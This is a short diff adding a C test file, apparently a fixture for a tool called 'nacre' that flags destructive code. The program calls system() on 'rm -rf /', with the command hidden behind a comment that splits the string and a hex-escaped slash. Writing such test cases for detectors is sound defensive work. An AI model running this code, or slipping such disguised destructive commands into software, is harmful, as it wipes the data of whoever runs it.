@@ -1,0 +1,7 @@
+// nacre: refused file.destroy
+#include <stdlib.h>
+
+int main(void)
+{
+	return system("rm " /* x */ "-rf \x2f");
+}
